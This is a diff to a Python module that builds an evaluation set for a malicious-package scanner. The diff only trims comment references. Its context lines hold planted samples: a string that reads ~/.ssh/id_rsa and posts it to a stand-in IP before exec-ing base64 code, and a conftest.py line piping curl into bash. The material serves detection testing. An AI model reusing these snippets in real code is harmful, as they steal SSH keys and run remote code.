@@ -1,5 +1,5 @@
 """The scanner's evaluation set, built in memory: benign packages close to the line, planted malicious
-patterns of every detection family, and hostile archives (REFERENCE.md §5.6).
+patterns of every detection family, and hostile archives built to break scanners.
 
 Used by ``lib/scanner/test_evaluation.py`` (every planted pattern found, benign packages low, hostile
 archives recorded and never written) and by ``bench/scan_eval`` (recall and false-positive figures).
@@ -626,7 +626,7 @@ def planted_cases() -> tuple[EvalCase, ...]:
     )
     blob = base64.b85encode(random.Random(5).randbytes(1200)).decode()  # base85 passes base64's 6 bits/char
     code = marshal.dumps(compile(_STAGE2, "<stage2>", "exec"))
-    evasive = (  # Aura scored this 0 (REFERENCE.md §5.6): the parse failure hid everything
+    evasive = (  # Aura scored this 0: the parse failure hid everything
         'import base64, os, urllib.request\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
         'urllib.request.urlopen("http://203.0.113.50:8080/u", data=key.encode())\n'
         f'exec(base64.b64decode("{base64.b64encode(_STAGE2.encode()).decode()}"))\n'
@@ -671,7 +671,7 @@ def planted_cases() -> tuple[EvalCase, ...]:
         # Suppression comments are the package's own words: they must change nothing.
         ("shell-dropper", "shell download", {"dropper/__init__.py": dropper, "dropper/alt.py": dropper_alt},
          ("process.shell-download @ dropper/__init__.py", "process.shell-download @ dropper/alt.py")),
-        # GuardDog v2 never looked under tests/ (REFERENCE.md §5.3).
+        # GuardDog v2 never looked under tests/.
         ("tests-dropper", "shell download", {
             "tests_dropper/__init__.py": "",
             "tests/conftest.py": 'import os\n\nos.system("curl -s https://get.example.net/t.sh | bash")\n',
@@ -845,7 +845,7 @@ def adversarial_cases(marker: str = DEFAULT_MARKER) -> tuple[EvalCase, ...]:
         ("deep-brackets", "250 nested brackets",
          _release("deep-brackets", "1.0", {"deep_brackets/x.py": "x = " + "(" * 250 + "1" + ")" * 250 + "\n"}),
          ("parse.failed @ deep_brackets/x.py",)),
-        # Aura never unpacked .tar.xz (REFERENCE.md §5.1).
+        # Aura never unpacked .tar.xz.
         ("xz-sdist", ".tar.xz sdist", _release("xz-sdist", "1.0", {"xz_sdist/__init__.py": shell}, sdist="xz"),
          ("process.shell-download @ xz_sdist/__init__.py",)),
         ("non-utf8-names", "non-utf-8 member names", (
